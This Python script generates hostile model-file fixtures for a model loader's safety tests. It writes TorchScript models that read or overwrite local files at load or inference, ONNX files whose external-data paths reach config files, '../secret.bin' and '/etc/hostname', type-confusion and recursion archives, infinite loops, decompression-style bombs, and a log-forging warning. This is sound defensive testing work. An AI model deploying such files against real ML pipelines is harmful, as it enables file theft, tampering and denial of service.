"""Hostile model files for the safety tests (tests/hostile.rs), written by the
real libraries where a format has one.

    .cache/venv/bin/python tools/hostile_fixtures.py   (or: make fixtures)

Everything goes to tests/fixtures/hostile/. Each file is the smallest
instance of a class of attack; the tests check the class (the reason given,
that no file was touched, that memory and time stay bounded), not bytes.

TorchScript (torch 2.13):
  ts_file_writer.pt      forward() opens 'hostile_target.sh' (relative: the
                         working directory) with torch.from_file(shared=True)
                         and overwrites it
  ts_file_reader.pt      forward() reads 'config/worker.yaml' with
                         torch.from_file(shared=False) and returns its bytes
  ts_setstate_writer.pt  a submodule's __setstate__ (run by libtorch while
                         loading) writes 'hostile_target.sh'
  ts_hook_reader.pt      a forward hook reads 'config/worker.yaml'
  ts_fork.pt             forward() forks a thread (prim::fork / aten::wait)
  ts_uninitialised.pt    forward() returns torch.empty(...): whatever was in
                         the process's memory
  ts_loop_on_positive.pt forward() loops for seconds on a row with a
                         positive sum (allowed operators only, and it passes
                         the all-zero warm-up: for the inference deadline)
  ts_sigfpe.pt           forward() divides INT64_MIN by -1 in TorchScript's
                         integer arithmetic when the first feature is > 0.5:
                         the CPU faults (SIGFPE), libtorch does not check
                         (zeros, the load's warm-up row, pass)
  ts_reciprocal.pt       forward() returns 1/x[:, 0]: infinite for a zero
                         (a non-finite output is an error for its row)
  ts_type_confusion.pt   hand-written code: unchecked_cast of an object to a
                         bigger, unrelated class, then reads past its slots
  ts_deep_nesting.pt     hand-written code: 20,000 nested brackets
  ts_exponential_inlining.pt  f_n calls f_(n-1) twice, 24 deep: 16 M nodes
                         once libtorch inlines it to run
  ts_warning_forges_log.pt  forward() warns with escape sequences and a
                         forged log line
ONNX (onnx 1.23):
  onnx_external_*.onnx   a MatMul whose weight is external data at
                         'config/worker.yaml' (also with data_location as the
                         varint 2^32+1, which ONNX Runtime reads as EXTERNAL),
                         '../secret.bin', an absolute path, and
                         (legitimately) 'onnx_external_sibling.weights'
                         beside the model; golden outputs from ONNX Runtime
                         for the legitimate one
  onnx_loop_forever.onnx a Loop without trip count whose condition stays true
                         (the load's warm-up never ends: the load deadline)
  onnx_loop_on_positive.onnx  the same Loop, entered only when the input sum
                         is positive (the inference deadline)
Bombs and non-finite models (plain bytes, from the shipped fixtures):
  xgb_ubj_null_bomb.ubj  nested arrays of zero-byte UBJSON types: 60 KB that
                         declare about 225 million values
  pkl_forest_memo_bomb.pkl  a RandomForestRegressor whose estimators_ is one
                         tree referenced 100,000 times through the pickle memo
  lgb_max_feature_idx.txt   max_feature_idx=9999999 in a small model
  lgb_nan_leaves.txt     leaf values NaN and inf
  lgb_multiclass_one_class.txt  multiclass with num_class=1
  xgb_nan_base_score.json   base_score NaN (the margin every row starts from)
  xgb_nan_split.json     a split threshold NaN (written as a string number)
"""

import json
import os
import pickle
import struct
import sys

import numpy as np

ROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
FIX = os.path.join(ROOT, "tests", "fixtures")
OUT = os.path.join(FIX, "hostile")


def path(name):
    return os.path.join(OUT, name)


def torchscript():
    import torch

    class FileWriter(torch.nn.Module):
        def forward(self, x: torch.Tensor) -> torch.Tensor:
            t = torch.from_file("hostile_target.sh", True, 16, dtype=torch.uint8)
            t.fill_(35)  # '#'
            # used in the result, so the compiler cannot drop it as dead code
            return x.sum(1) + t.to(torch.float32).sum() * 0.0

    class FileReader(torch.nn.Module):
        def forward(self, x: torch.Tensor) -> torch.Tensor:
            t = torch.from_file("config/worker.yaml", False, 64, dtype=torch.uint8)
            return x.matmul(t[: x.size(1) * 4].to(torch.float32).reshape(x.size(1), 4))

    class SetStateWriter(torch.nn.Module):
        def __init__(self):
            super().__init__()
            self.n = 16

        @torch.jit.export
        def __getstate__(self) -> int:
            return self.n

        @torch.jit.export
        def __setstate__(self, state: int) -> None:
            t = torch.from_file("hostile_target.sh", True, state, dtype=torch.uint8)
            t.fill_(35)
            self.n = state + int(t.sum().item()) * 0

        def forward(self, x: torch.Tensor) -> torch.Tensor:
            return x.sum(1)

    class Outer(torch.nn.Module):
        def __init__(self):
            super().__init__()
            self.inner = SetStateWriter()

        def forward(self, x: torch.Tensor) -> torch.Tensor:
            return self.inner(x)

    class Hooked(torch.nn.Module):
        def forward(self, x: torch.Tensor) -> torch.Tensor:
            return x.sum(1)

    def leak_hook(m: torch.nn.Module, inputs: tuple[torch.Tensor], out: torch.Tensor) -> torch.Tensor:
        t = torch.from_file("config/worker.yaml", False, 8, dtype=torch.uint8)
        return out + t[0].to(torch.float32)

    def forked(x: torch.Tensor) -> torch.Tensor:
        return x.sum(1)

    class Forky(torch.nn.Module):
        def forward(self, x: torch.Tensor) -> torch.Tensor:
            fut = torch.jit.fork(forked, x)
            return torch.jit.wait(fut)

    class Uninitialised(torch.nn.Module):
        def forward(self, x: torch.Tensor) -> torch.Tensor:
            return torch.empty(x.size(0), 1)

    class LoopOnPositive(torch.nn.Module):
        def forward(self, x: torch.Tensor) -> torch.Tensor:
            y = x.sum(1)
            # zeros (the load's warm-up row) pass; a positive row loops for
            # seconds, far past any deadline (bounded only so that a test
            # process does not keep a core busy until it exits)
            i = 0
            while bool(y.sum() > 0.0) and i < 300_000:
                y = y + 0.0
                i += 1
            return y

    class Reciprocal(torch.nn.Module):
        def forward(self, x: torch.Tensor) -> torch.Tensor:
            return 1.0 / x[:, 0]

    class SigFpe(torch.nn.Module):
        def forward(self, x: torch.Tensor) -> torch.Tensor:
            big = bool(x[0, 0] > 0.5)
            m = -9223372036854775807 - int(big)
            n = -1 if big else 1
            return x.sum(1) + float(m // n) * 0.0

    torch.jit.script(Reciprocal()).save(path("ts_reciprocal.pt"))
    torch.jit.script(SigFpe()).save(path("ts_sigfpe.pt"))
    code_attacks(torch)
    torch.jit.script(FileWriter()).save(path("ts_file_writer.pt"))
    torch.jit.script(FileReader()).save(path("ts_file_reader.pt"))
    torch.jit.script(Outer()).save(path("ts_setstate_writer.pt"))
    h = Hooked()
    h.register_forward_hook(leak_hook)
    torch.jit.script(h).save(path("ts_hook_reader.pt"))
    torch.jit.script(Forky()).save(path("ts_fork.pt"))
    torch.jit.script(Uninitialised()).save(path("ts_uninitialised.pt"))
    torch.jit.script(LoopOnPositive()).save(path("ts_loop_on_positive.pt"))


def rewrite_code(src, dst, new_code):
    """Copies a TorchScript archive with its code/__torch__.py replaced (and
    the debug tables, which map the old code, dropped): what an attacker
    does to write TorchScript the Python frontend would not produce."""
    import zipfile
    zin = zipfile.ZipFile(src)
    with zipfile.ZipFile(dst, "w", zipfile.ZIP_STORED) as zout:
        for info in zin.infolist():
            if info.filename.endswith(".debug_pkl"):
                continue
            data = zin.read(info.filename)
            if info.filename.split("/", 1)[1] == "code/__torch__.py":
                data = new_code.encode()
            zout.writestr(info.filename, data)


def code_attacks(torch):
    import tempfile

    @torch.jit.script
    class Small(object):
        def __init__(self, x: int):
            self.a0 = x

    @torch.jit.script
    class Big(object):
        def __init__(self, x: int):
            self.b0 = x
            self.b1 = x
            self.b2 = x
            self.b3 = x
            self.b4 = x
            self.b5 = x
            self.b6 = x
            self.b7 = x
            self.t = torch.zeros(1)

    class Base(torch.nn.Module):
        def forward(self, x: torch.Tensor) -> torch.Tensor:
            a = Small(1)
            b = Big(2)
            return x.sum(1) + float(b.b7) + float(a.a0)

    base = os.path.join(tempfile.mkdtemp(), "base.pt")
    torch.jit.script(Base()).save(base)
    import zipfile
    code = zipfile.ZipFile(base).read("base/code/__torch__.py").decode()
    start = code.index("    a = __torch__.")
    end = code.index("class ", start)
    # an object cast to an unrelated, bigger class: reading its attribute
    # reads past the small object's slots (libtorch checks only in debug)
    small = code[code.index("a = __torch__.") + 4 : code.index(".__new__")]
    big_name = [l.split(":")[0].split()[1] for l in code.splitlines() if l.startswith("class ") and "Big" in l][0]
    cast = (
        f"    a = {small}.__new__({small})\n"
        f"    _0 = (a).__init__(1, )\n"
        f"    b = unchecked_cast(__torch__.{big_name}, a)\n"
        f"    t = b.t\n"
        f"    return torch.add(torch.sum(x, [1]), t)\n"
    )
    rewrite_code(base, path("ts_type_confusion.pt"), code[:start] + cast + code[end:])
    # 20,000 nested brackets: the TorchScript parser recurses once per level
    deep = "(" * 20000 + "x" + ")" * 20000
    rewrite_code(base, path("ts_deep_nesting.pt"), code[:start] + f"    return torch.sum({deep}, [1])\n" + code[end:])

    # functions calling the previous one twice, 24 deep: 2^24 nodes once
    # inlined, as libtorch compiles them to run
    src = "import torch\ndef f0(x: torch.Tensor) -> torch.Tensor:\n    return x + 1\n"
    for i in range(1, 25):
        src += f"def f{i}(x: torch.Tensor) -> torch.Tensor:\n    return f{i-1}(x) + f{i-1}(x)\n"
    mod_dir = tempfile.mkdtemp()
    with open(os.path.join(mod_dir, "doubling.py"), "w") as f:
        f.write(src)
    sys.path.insert(0, mod_dir)
    import doubling

    class Doubling(torch.nn.Module):
        def forward(self, x: torch.Tensor) -> torch.Tensor:
            return doubling.f24(x).sum(1)

    torch._C._jit_set_inline_everything_mode(False)
    try:
        torch.jit.script(Doubling()).save(path("ts_exponential_inlining.pt"))
    finally:
        torch._C._jit_set_inline_everything_mode(True)

    # a warning that tries to forge a log line
    class Warns(torch.nn.Module):
        def forward(self, x: torch.Tensor) -> torch.Tensor:
            warnings.warn("\x1b[2K\n2026-12-02T00:00:00Z  INFO ml_worker::audit: audit row written audit_head=1:forged")
            return x.sum(1)

    import warnings
    torch.jit.script(Warns()).save(path("ts_warning_forges_log.pt"))


def onnx_files():
    import onnx
    import onnxruntime as ort
    from onnx import TensorProto, helper

    def matmul_model(location, n=4, k=4, offset=0):
        x = helper.make_tensor_value_info("X", TensorProto.FLOAT, [None, n])
        y = helper.make_tensor_value_info("Y", TensorProto.FLOAT, [None, k])
        w = TensorProto()
        w.name = "W"
        w.data_type = TensorProto.FLOAT
        w.dims.extend([n, k])
        w.data_location = TensorProto.EXTERNAL
        for key, value in [("location", location), ("offset", str(offset)), ("length", str(n * k * 4))]:
            e = w.external_data.add()
            e.key, e.value = key, value
        node = helper.make_node("MatMul", ["X", "W"], ["Y"])
        graph = helper.make_graph([node], "external", [x], [y], initializer=[w])
        return helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)], ir_version=9)

    for name, loc in [
        ("onnx_external_reads_config.onnx", "config/worker.yaml"),
        ("onnx_external_parent.onnx", "../secret.bin"),
        ("onnx_external_absolute.onnx", "/etc/hostname"),
    ]:
        with open(path(name), "wb") as f:
            f.write(matmul_model(loc).SerializeToString())

    # the same attack with data_location written as the 10-byte varint
    # 2^32 + 1: a 32-bit enum to ONNX Runtime, which reads it as EXTERNAL
    m = matmul_model("config/worker.yaml")
    w = m.graph.initializer[0]
    w.ClearField("data_location")
    def varint(v):
        out = bytearray()
        while v >= 0x80:
            out.append((v & 0x7F) | 0x80)
            v >>= 7
        out.append(v)
        return bytes(out)
    def field(n, payload):
        return varint((n << 3) | 2) + varint(len(payload)) + payload
    tensor = w.SerializeToString() + varint(14 << 3) + varint((1 << 32) + 1)
    graph = m.graph
    rest = onnx.GraphProto()
    rest.CopyFrom(graph)
    del rest.initializer[:]
    graph_bytes = rest.SerializeToString() + field(5, tensor)
    top = onnx.ModelProto()
    top.CopyFrom(m)
    top.ClearField("graph")
    with open(path("onnx_external_wide_location.onnx"), "wb") as f:
        f.write(top.SerializeToString() + field(7, graph_bytes))

    # a legitimate model with its weights beside it, at an offset
    rng = np.random.default_rng(7)
    weights = rng.normal(size=(4, 4)).astype("<f4")
    with open(path("onnx_external_sibling.weights"), "wb") as f:
        f.write(b"\0" * 16 + weights.tobytes())
    model_path = path("onnx_external_sibling.onnx")
    with open(model_path, "wb") as f:
        f.write(matmul_model("onnx_external_sibling.weights", offset=16).SerializeToString())
    inputs = rng.normal(size=(20, 4)).round(3)
    sess = ort.InferenceSession(model_path, providers=["CPUExecutionProvider"])
    outputs = sess.run(None, {"X": inputs.astype(np.float32)})[0]
    with open(path("onnx_external_sibling.golden.json"), "w") as f:
        json.dump({"inputs": inputs.tolist(), "outputs": outputs.astype(float).tolist()}, f)

    # Loop with no trip count whose condition stays true; its start value
    # depends on the input so it cannot be folded away at load
    for name, on_positive in [("onnx_loop_forever.onnx", False), ("onnx_loop_on_positive.onnx", True)]:
        loop_model(name, on_positive)


def loop_model(name, on_positive):
    import onnx
    from onnx import TensorProto, helper

    x = helper.make_tensor_value_info("X", TensorProto.FLOAT, [None, 4])
    y = helper.make_tensor_value_info("Y", TensorProto.FLOAT, [None, 1])
    body = helper.make_graph(
        [
            helper.make_node("Identity", ["cond_in"], ["cond_out"]),
            helper.make_node("Add", ["v_in", "one"], ["v_out"]),
        ],
        "body",
        [
            helper.make_tensor_value_info("i", TensorProto.INT64, []),
            helper.make_tensor_value_info("cond_in", TensorProto.BOOL, []),
            helper.make_tensor_value_info("v_in", TensorProto.FLOAT, [None, 1]),
        ],
        [
            helper.make_tensor_value_info("cond_out", TensorProto.BOOL, []),
            helper.make_tensor_value_info("v_out", TensorProto.FLOAT, [None, 1]),
        ],
        initializer=[helper.make_tensor("one", TensorProto.FLOAT, [], [1.0])],
    )
    nodes = [helper.make_node("ReduceSum", ["X", "axes"], ["s"], keepdims=1)]
    if on_positive:
        nodes += [
            helper.make_node("ReduceSum", ["X"], ["total"], keepdims=0),
            helper.make_node("Greater", ["total", "zero"], ["cond"]),
            helper.make_node("Loop", ["", "cond", "s"], ["Y"], body=body),
        ]
    else:
        nodes.append(helper.make_node("Loop", ["", "true", "s"], ["Y"], body=body))
    graph = helper.make_graph(
        nodes,
        "forever",
        [x],
        [y],
        initializer=[
            helper.make_tensor("axes", TensorProto.INT64, [1], [1]),
            helper.make_tensor("true", TensorProto.BOOL, [], [True]),
            helper.make_tensor("zero", TensorProto.FLOAT, [], [0.0]),
        ],
    )
    model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)], ir_version=9)
    onnx.checker.check_model(model)
    with open(path(name), "wb") as f:
        f.write(model.SerializeToString())


def ubj_null_bomb():
    # [$[#I n  then n headers ($Z#I count) each declaring as many nulls as
    # bytes remain after it: the most a check against the input length allows
    n = 7_500
    b = bytearray(b"[$[#l" + struct.pack(">i", n))
    for i in range(n):
        b += b"$Z#l" + struct.pack(">i", (n - 1 - i) * 8)
    with open(path("xgb_ubj_null_bomb.ubj"), "wb") as f:
        f.write(b)


def forest_memo_bomb():
    from sklearn.ensemble import RandomForestRegressor

    rng = np.random.default_rng(3)
    X = rng.normal(size=(600, 4))
    y = rng.normal(size=600)
    rf = RandomForestRegressor(n_estimators=1, random_state=0).fit(X, y)
    # one tree of ~800 nodes, referenced 100,000 times: the pickle memo
    # stores it once, a naive reader builds it 100,000 times
    rf.estimators_ = [rf.estimators_[0]] * 100_000
    rf.n_estimators = len(rf.estimators_)
    with open(path("pkl_forest_memo_bomb.pkl"), "wb") as f:
        pickle.dump(rf, f, protocol=4)


def lightgbm_edits():
    src = open(os.path.join(FIX, "lgb_regression.txt")).read()
    assert "max_feature_idx=" in src
    lines = src.split("\n")

    def edit(pred, repl):
        return "\n".join(repl(l) if pred(l) else l for l in lines)

    # no feature_names/feature_infos: nothing in the file bounds the count
    with open(path("lgb_max_feature_idx.txt"), "w") as f:
        kept = []
        for l in lines:
            if l.startswith("max_feature_idx="):
                kept.append("max_feature_idx=9999999")
            elif not (l.startswith("feature_names=") or l.startswith("feature_infos=")):
                kept.append(l)
        f.write("\n".join(kept))
    first_leaf = [True]

    def nan_leaves(l):
        if first_leaf[0]:
            first_leaf[0] = False
            vals = l.split("=", 1)[1].split(" ")
            vals[0], vals[-1] = "nan", "inf"
            return "leaf_value=" + " ".join(vals)
        return l

    with open(path("lgb_nan_leaves.txt"), "w") as f:
        f.write(edit(lambda l: l.startswith("leaf_value="), nan_leaves))
    multi = open(os.path.join(FIX, "lgb_multiclass.txt")).read()
    out = []
    for l in multi.split("\n"):
        if l.startswith("num_class="):
            l = "num_class=1"
        elif l.startswith("objective="):
            l = "objective=multiclass num_class:1"
        out.append(l)
    with open(path("lgb_multiclass_one_class.txt"), "w") as f:
        f.write("\n".join(out))


def xgboost_edits():
    doc = json.load(open(os.path.join(FIX, "xgb_binary.json")))
    doc["learner"]["learner_model_param"]["base_score"] = "nan"
    with open(path("xgb_nan_base_score.json"), "w") as f:
        json.dump(doc, f)
    doc = json.load(open(os.path.join(FIX, "xgb_binary.json")))
    tree = doc["learner"]["gradient_booster"]["model"]["trees"][0]
    tree["split_conditions"][0] = "NaN"
    with open(path("xgb_nan_split.json"), "w") as f:
        json.dump(doc, f)


def main():
    os.makedirs(OUT, exist_ok=True)
    only = set(sys.argv[1:])
    steps = [
        ("torch", torchscript),
        ("onnx", onnx_files),
        ("ubj", ubj_null_bomb),
        ("pickle", forest_memo_bomb),
        ("lightgbm", lightgbm_edits),
        ("xgboost", xgboost_edits),
    ]
    for name, step in steps:
        if not only or name in only:
            step()
            print(f"hostile fixtures: {name} done")


if __name__ == "__main__":
    main()
